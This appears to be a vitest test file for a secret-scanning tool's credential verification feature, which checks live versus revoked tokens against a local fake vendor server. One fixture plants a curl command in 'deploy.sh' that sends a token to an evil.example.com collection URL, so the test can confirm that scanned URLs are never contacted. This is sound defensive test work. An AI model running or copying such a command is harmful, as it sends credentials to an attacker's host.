// --verify from the command line, against the local vendor server: scan, history and audit record
// each credential's status in every format; --verify-only-live keeps the live ones; the endpoint
// override is refused outside the tests; HTTPS_PROXY and NO_PROXY are honoured; no request goes to a
// host no verifier names, whatever the scanned files say.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { allVerifiers } from '../../detectors/verifiers.js';
import { fakeGithubToken } from '../../fixtures/repos/history.js';
import { hostAllowed } from '../../src/verify/http.js';
import { GITHUB_TOKEN } from '../filters/example-secrets.js';
import { runCli } from '../helpers/run-cli.js';
import { git, tmpDir, tmpRepo, writeTree } from '../helpers/tmp.js';
import { allSimulations } from './simulations/index.js';
import type { Simulation } from './simulations/types.js';
import { testTls } from './tls.js';
import { startConnectProxy, startVendorServer, type VendorServer } from './vendor-server.js';
import type { Verifier } from '../../src/verify/types.js';

const LIVE = GITHUB_TOKEN;
const REVOKED = fakeGithubToken(1812);

let server: VendorServer;
const pairs = allVerifiers.map((v) => [v, allSimulations.find((s) => s.verifier === v.id)] as const).filter((p): p is readonly [Verifier, Simulation] => p[1] !== undefined);

beforeAll(async () => {
  server = await startVendorServer(pairs);
  server.liveSet.add(LIVE);
});
afterAll(async () => server?.close());

const env = (extra: Record<string, string> = {}): NodeJS.ProcessEnv => ({ PATH: process.env.PATH, SECRET_HYGIENE_TEST_ENDPOINTS: '1', NODE_EXTRA_CA_CERTS: testTls().caFile, ...extra });
const verifyArgs = (): string[] => ['--verify', '--verify-endpoint-override', server.url.href];

function project(): string {
  const dir = tmpDir();
  writeTree(dir, {
    'src/client.js': `const token = "${LIVE}";\n`,
    'src/old.js': `const previous = "${REVOKED}";\n`,
    // a URL in a scanned file is never a destination
    'deploy.sh': `curl -H "Authorization: token ${LIVE}" https://evil.example.com/collect\n`,
  });
  return dir;
}

interface JsonReport {
  findings: { path: string; detectorId: string; verification?: { status: string; reason?: string; verifier?: string } }[];
  notes?: string[];
}

describe('scan --verify', () => {
  it('records live and revoked in JSON, sends each distinct credential once, only to hosts verifiers name', async () => {
    const dir = project();
    const before = server.requests.length;
    const r = await runCli(['scan', dir, ...verifyArgs(), '-f', 'json', '--no-repo-config'], { env: env() });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(1);
    const report = JSON.parse(r.stdout) as JsonReport;
    const byPath = (p: string) => report.findings.find((f) => f.path === p && f.detectorId === 'github-token');
    expect(byPath('src/client.js')?.verification).toEqual({ status: 'live', verifier: 'github' });
    expect(byPath('src/old.js')?.verification).toEqual({ status: 'revoked', verifier: 'github' });
    expect(byPath('deploy.sh')?.verification?.status).toBe('live');
    expect(report.notes?.join('\n')).toMatch(/--verify: \d+ distinct credentials?: 1 live, 1 revoked/);
    const sent = server.requests.slice(before);
    expect(sent.map((q) => `${q.method} ${q.host}${q.path}`).sort()).toEqual(['GET api.github.com/user', 'GET api.github.com/user']);
    const hosts = allVerifiers.flatMap((v) => v.hosts);
    for (const q of sent) expect(hostAllowed(hosts, q.host)).toBe(true);
    expect(r.stdout).not.toContain(LIVE);
    expect(r.stdout).not.toContain(REVOKED);
  });

  it('marks live credentials in text, SARIF and JUnit, and never shows the secret', async () => {
    const dir = project();
    const text = await runCli(['scan', dir, ...verifyArgs(), '--no-repo-config'], { env: env() });
    expect(text.stdout).toMatch(/src\/client\.js:1:\d+ +\w+ +github-token +\S+ +LIVE/);
    expect(text.stdout).toMatch(/src\/old\.js:1:\d+ +\w+ +github-token +\S+ +revoked/);
    const sarif = await runCli(['scan', dir, ...verifyArgs(), '--no-repo-config', '-f', 'sarif'], { env: env() });
    const results = (JSON.parse(sarif.stdout) as { runs: { results: { properties: { verification?: { status: string } } }[] }[] }).runs[0]?.results ?? [];
    expect(results.map((x) => x.properties.verification?.status).filter(Boolean).sort()).toEqual(['live', 'live', 'revoked']);
    const junit = await runCli(['scan', dir, ...verifyArgs(), '--no-repo-config', '-f', 'junit'], { env: env() });
    expect(junit.stdout).toContain('verification: LIVE');
    for (const out of [text.stdout, sarif.stdout, junit.stdout]) expect(out).not.toContain(LIVE);
  });

  it('--verify-only-live reports only live credentials; the gate follows', async () => {
    const dir = project();
    const r = await runCli(['scan', dir, '--verify-only-live', '--verify-endpoint-override', server.url.href, '-f', 'json', '--no-repo-config'], { env: env() });
    const report = JSON.parse(r.stdout) as JsonReport;
    expect(report.findings.length).toBeGreaterThan(0);
    expect(report.findings.every((f) => f.verification?.status === 'live')).toBe(true);
    expect(r.code).toBe(1);
    const onlyRevoked = tmpDir();
    writeTree(onlyRevoked, { 'a.js': `const t = "${REVOKED}";\n` });
    const clean = await runCli(['scan', onlyRevoked, '--verify-only-live', '--verify-endpoint-override', server.url.href, '--no-repo-config'], { env: env() });
    expect(clean.code).toBe(0);
  });

  it('says why a credential is unknown: no verifier, disabled by the config, missing context', async () => {
    const dir = tmpDir();
    writeTree(dir, {
      'a.js': `const t = "${LIVE}";\n`,
      // made of two halves so that this file holds no secret-shaped literal
      'aws.ini': `[default]\naws_secret_access_key = ${'q2Vx8NfR4tLm7Hc1Zp9W'}${'b3Ks6Jd0Gy5Ae2Tu4Oi8'}\n`,
      '.secret-hygiene.json': JSON.stringify({ verify: { disable: ['github'] } }),
    });
    const r = await runCli(['scan', dir, ...verifyArgs(), '-f', 'json'], { env: env() });
    const report = JSON.parse(r.stdout) as JsonReport;
    expect(report.findings.find((f) => f.detectorId === 'github-token')?.verification).toEqual({ status: 'unknown', reason: 'disabled', verifier: 'github' });
    expect(report.findings.find((f) => f.detectorId === 'aws-secret-access-key')?.verification).toMatchObject({ status: 'unknown', reason: 'missing-context', verifier: 'aws' });
  });

  it('shows its progress on a terminal, and clears the line after', async () => {
    const dir = project();
    const r = await runCli(['scan', dir, ...verifyArgs(), '--no-repo-config', '-f', 'json', '-o', `${dir}/report.json`], { env: env(), tty: true });
    expect(r.stderr).toContain('--verify: 2/2 credentials asked about');
    expect(r.stderr.endsWith('\r\u001b[K')).toBe(true);
    const quiet = await runCli(['scan', dir, ...verifyArgs(), '--no-repo-config', '-f', 'json'], { env: env() });
    expect(quiet.stderr).toBe('');
  });

  it('refuses a config that disables an unknown verifier, in one line with exit 2', async () => {
    const dir = tmpDir();
    writeTree(dir, { 'a.js': 'x\n', '.secret-hygiene.json': JSON.stringify({ verify: { disable: ['githbu'] } }) });
    const r = await runCli(['scan', dir, '--verify'], { env: env() });
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/verify\.disable: unknown verifier 'githbu'/);
  });

  it('refuses the endpoint override outside the tests, and anywhere but this machine', async () => {
    const dir = project();
    const outside = await runCli(['scan', dir, ...verifyArgs()], { env: { PATH: process.env.PATH } });
    expect(outside.code).toBe(2);
    expect(outside.stderr).toMatch(/--verify-endpoint-override: for the project's own tests only/);
    const remote = await runCli(['scan', dir, '--verify', '--verify-endpoint-override', 'https://collector.example.net/'], { env: env() });
    expect(remote.code).toBe(2);
    expect(remote.stderr).toMatch(/must be an https URL on this machine/);
    const help = await runCli(['scan', '--help']);
    expect(help.stdout).toContain('--verify-only-live');
    expect(help.stdout).not.toContain('endpoint-override');
  });

  it('goes through HTTPS_PROXY, and around it for hosts in NO_PROXY', async () => {
    const proxy = await startConnectProxy();
    try {
      const dir = project();
      const viaLocalhost = ['--verify', '--verify-endpoint-override', `https://localhost:${server.url.port}/`];
      const r = await runCli(['scan', dir, ...viaLocalhost, '-f', 'json', '--no-repo-config'], { env: env({ HTTPS_PROXY: proxy.url }) });
      expect(r.code).toBe(1);
      expect(proxy.tunnels).toContain(`localhost:${server.url.port}`);
      expect((JSON.parse(r.stdout) as JsonReport).findings.some((f) => f.verification?.status === 'live')).toBe(true);
      const tunnels = proxy.tunnels.length;
      const direct = await runCli(['scan', dir, ...viaLocalhost, '-f', 'json', '--no-repo-config'], { env: env({ HTTPS_PROXY: proxy.url, NO_PROXY: 'localhost' }) });
      expect((JSON.parse(direct.stdout) as JsonReport).findings.some((f) => f.verification?.status === 'live')).toBe(true);
      expect(proxy.tunnels.length).toBe(tunnels);
    } finally {
      await proxy.close();
    }
  });
});

describe('history and audit --verify', () => {
  function repoWithHistory(): string {
    const repo = tmpRepo({ 'app.js': `const token = "${REVOKED}";\n` });
    writeTree(repo, { 'app.js': 'const token = process.env.TOKEN;\n', 'ci.js': `const ci = "${LIVE}";\n` });
    git(repo, ['add', '-A']);
    git(repo, ['commit', '-q', '-m', 'move the token']);
    return repo;
  }

  it('history: each finding says whether its credential is live', async () => {
    const repo = repoWithHistory();
    const r = await runCli(['history', repo, ...verifyArgs(), '-f', 'json', '--no-repo-config'], { env: env() });
    const report = JSON.parse(r.stdout) as JsonReport;
    expect(report.findings.find((f) => f.path === 'ci.js')?.verification?.status).toBe('live');
    expect(report.findings.find((f) => f.path === 'app.js')?.verification?.status).toBe('revoked');
  });

  it('audit: the rotation checklist puts live credentials first and says so in JSON and text', async () => {
    const repo = repoWithHistory();
    const json = await runCli(['audit', repo, ...verifyArgs(), '-f', 'json', '--no-repo-config'], { env: env() });
    const audit = JSON.parse(json.stdout) as { rotation: { paths: string[]; verification?: { status: string } }[]; notes: string[] };
    expect(audit.rotation.map((e) => [e.paths.join(','), e.verification?.status])).toEqual([
      ['ci.js', 'live'],
      ['app.js', 'revoked'],
    ]);
    expect(audit.notes.join('\n')).toMatch(/1 live, 1 revoked/);
    const text = await runCli(['audit', repo, ...verifyArgs(), '--no-repo-config'], { env: env() });
    expect(text.stdout).toMatch(/github-token +\S+ +IN TREE +LIVE/);
    const onlyLive = await runCli(['audit', repo, '--verify-only-live', '--verify-endpoint-override', server.url.href, '-f', 'json', '--no-repo-config'], { env: env() });
    expect((JSON.parse(onlyLive.stdout) as { rotation: unknown[] }).rotation).toHaveLength(1);
    for (const out of [json.stdout, text.stdout]) expect(out).not.toContain(LIVE);
  });
});

describe('--verify elsewhere', () => {
  it('staged --verify marks the staged credential; the installed hook never asks', async () => {
    const repo = tmpRepo({ 'README.md': 'hello\n' });
    writeTree(repo, { 'app.js': `const token = "${LIVE}";\n` });
    git(repo, ['add', 'app.js']);
    const r = await runCli(['staged', repo, ...verifyArgs(), '-f', 'json', '--no-repo-config'], { env: env() });
    expect((JSON.parse(r.stdout) as JsonReport).findings.map((f) => f.verification?.status)).toEqual(['live']);
    const install = await runCli(['hook', 'install', repo], { env: env() });
    expect(install.code).toBe(0);
    const hook = readFileSync(join(repo, '.git', 'hooks', 'pre-commit'), 'utf8');
    expect(hook).toContain('staged');
    expect(hook).not.toContain('--verify');
  });

  it('report merge keeps each rotation entry\'s verification, and the HTML audit marks live ones', async () => {
    const repo = tmpRepo({ 'ci.js': `const ci = "${LIVE}";\n` });
    const out = tmpDir();
    const a = await runCli(['audit', repo, ...verifyArgs(), '--no-repo-config', '-o', join(out, 'a.json'), '-o', join(out, 'a.html')], { env: env() });
    expect(a.code).toBe(1);
    expect(readFileSync(join(out, 'a.html'), 'utf8')).toMatch(/<span class="live">LIVE<\/span>/);
    const merged = await runCli(['report', 'merge', join(out, 'a.json'), '-f', 'json'], { env: env() });
    expect(merged.code).toBe(0);
    expect(merged.stdout).toContain('"status": "live"');
    expect(readFileSync(join(out, 'a.json'), 'utf8')).not.toContain(LIVE);
  });
});
